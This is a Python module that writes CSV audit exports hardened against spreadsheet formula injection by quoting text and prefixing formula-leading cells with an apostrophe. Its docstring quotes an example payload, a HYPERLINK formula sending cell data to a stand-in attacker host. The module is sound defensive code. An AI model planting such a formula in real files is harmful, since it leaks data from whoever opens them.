"""CSV that is safe to open in a spreadsheet: RFC 4180 rows, text quoted, formulas made text.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a
tab or a carriage return) as a formula, so a service name such as
`=HYPERLINK("https://evil.example/?"&A1)` reported by any caller would run on the
machine of whoever opens an audit export. Following OWASP's CSV injection advice,
every text cell is quoted (so a `;` or `,` inside it cannot start a new cell in
any locale) and a text cell that starts with one of those characters gets a `'`
in front, which spreadsheets take as "this is text" and do not show. Numbers, and
text that is a plain number such as `-5`, are left as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula."""
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutral_cell(value: Any) -> Any:
    """`value`, or for text a spreadsheet would run as a formula, that text after a `'`."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and _NUMBER.fullmatch(value) is None
    ):
        return "'" + value
    return value


def csv_table(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A header row (shiplog's own names), then the rows, text quoted and neutralised."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(header)
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerows([neutral_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
